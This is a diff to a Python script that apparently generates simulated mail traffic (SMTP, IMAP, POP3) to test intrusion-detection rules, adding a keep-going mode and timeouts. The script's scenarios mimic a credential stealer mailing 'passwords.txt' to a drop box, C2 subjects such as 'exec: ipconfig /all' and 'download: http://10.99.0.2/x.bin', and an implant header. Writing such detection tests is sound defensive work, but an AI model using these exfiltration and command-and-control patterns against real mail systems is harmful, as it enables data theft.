@@ -94,9 +94,22 @@ def wait_mail(state_dir, user, count, timeout=20):
 
 
 class Run:
-    def __init__(self, state_dir):
+    def __init__(self, state_dir, keep_going=False):
         self.state_dir = state_dir
         self.scenarios = []
+        self.keep_going = keep_going
+
+    def attempt(self, step):
+        """Runs one scenario; with keep_going a failure is kept with the scenario that failed."""
+        if not self.keep_going:
+            return step()
+        before = len(self.scenarios)
+        try:
+            step()
+        except Exception as e:
+            failed = self.scenarios[before:]  # a wait between scenarios belongs to none
+            for sc in failed:
+                sc["error"] = f"{type(e).__name__}: {e}"
 
     def scenario(self, name, kind, protocol, port, **expect):
         s = {"name": name, "kind": kind, "protocol": protocol, "port": port, "src_ip": next(_next_ip),
@@ -132,7 +145,7 @@ class Run:
         m = message("Alice <alice@corp.example>", ["bob@corp.example"], "Q3 report",
                     "Bob, the Q3 report is attached.\n", [("report-Q3.pdf", pdf, "application/pdf")],
                     mailer="Microsoft Outlook 16.0")
-        with smtplib.SMTP(SERVER, 587, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0)) as c:
+        with smtplib.SMTP(SERVER, 587, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0), timeout=20) as c:
             c.ehlo()
             c.login("alice@corp.example", PASSWORDS["alice@corp.example"])  # PLAIN: first smtplib knows
             c.send_message(m)
@@ -204,7 +217,7 @@ class Run:
                         for i in range(20)).encode()
         m = message("drop@partner.example", ["drop@partner.example"], subject, report,
                     [("passwords.txt", creds, "text/plain")])
-        with smtplib.SMTP(SERVER, 587, local_hostname=MACHINE, source_address=(s["src_ip"], 0)) as c:
+        with smtplib.SMTP(SERVER, 587, local_hostname=MACHINE, source_address=(s["src_ip"], 0), timeout=20) as c:
             c.ehlo()
             c.user, c.password = "drop@partner.example", PASSWORDS["drop@partner.example"]
             c.auth("LOGIN", c.auth_login)
@@ -249,7 +262,7 @@ class Run:
                              mail_from="<ops@partner.example>", rcpt_to=["<drop@partner.example>"],
                              subjects=["exec: ipconfig /all", "download: http://10.99.0.2/x.bin"],
                              rules=[])  # 9100603 is for fetched messages: it fires on the POP3 side
-        with smtplib.SMTP(SERVER, 25, local_hostname="ops.partner.example", source_address=(seed["src_ip"], 0)) as c:
+        with smtplib.SMTP(SERVER, 25, local_hostname="ops.partner.example", source_address=(seed["src_ip"], 0), timeout=20) as c:
             for subj in seed["expect"]["subjects"]:
                 c.send_message(message("ops@partner.example", ["drop@partner.example"], subj, "--\n"))
         wait_mail(self.state_dir, "drop@partner.example", 3)  # and the stealer's report
@@ -306,34 +319,28 @@ class Run:
         # Written raw, on one line, as an implant writes it (Python's email package would fold it
         # into RFC 2047 encoded words).
         raw = f"X-Data: {blob}\r\n".encode() + m.as_bytes(policy=email.policy.SMTP)
-        with smtplib.SMTP(SERVER, 25, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0)) as c:
+        with smtplib.SMTP(SERVER, 25, local_hostname=s["expect"]["helo"], source_address=(s["src_ip"], 0), timeout=20) as c:
             c.sendmail("bob@corp.example", ["alice@corp.example"], raw)
 
     def run_all(self):
-        self.swaks_plain()
-        self.swaks_starttls_auth()
-        self.smtplib_auth_attachment()
-        self.curl_smtp()
-        self.stealer_exfil()
-        self.odd_port()
-        self.encoded_header()
-        self.fake_starttls()
-        wait_mail(self.state_dir, "bob@corp.example", 4)
-        self.imap_read()
-        self.pop3_read()
-        self.curl_imap_pop3()
-        self.imap_pop3_starttls()
-        self.pop3_polling()
-        self.imap_dead_drop()
-
+        for step in (self.swaks_plain, self.swaks_starttls_auth, self.smtplib_auth_attachment, self.curl_smtp,
+                     self.stealer_exfil, self.odd_port, self.encoded_header, self.fake_starttls,
+                     lambda: wait_mail(self.state_dir, "bob@corp.example", 4),
+                     self.imap_read, self.pop3_read, self.curl_imap_pop3, self.imap_pop3_starttls,
+                     self.pop3_polling, self.imap_dead_drop):
+            self.attempt(step)
 
 if __name__ == "__main__":
-    run = Run(sys.argv[1])
+    # --keep-going (inline testbed): a scenario that fails (its session cut by a verdict) is
+    # recorded in the scenario and the next one runs.
+    keep_going = "--keep-going" in sys.argv
+    args = [a for a in sys.argv[1:] if a != "--keep-going"]
+    run = Run(args[0], keep_going=keep_going)
     error = None
     try:
         run.run_all()
     except Exception as e:  # report what ran; the test fails on the error
         error = f"{type(e).__name__}: {e}"
-    pathlib.Path(sys.argv[2]).write_text(json.dumps({"scenarios": run.scenarios, "error": error,
+    pathlib.Path(args[1]).write_text(json.dumps({"scenarios": run.scenarios, "error": error,
                                                      "passwords": list(PASSWORDS.values())}, indent=1))
     sys.exit(1 if error else 0)
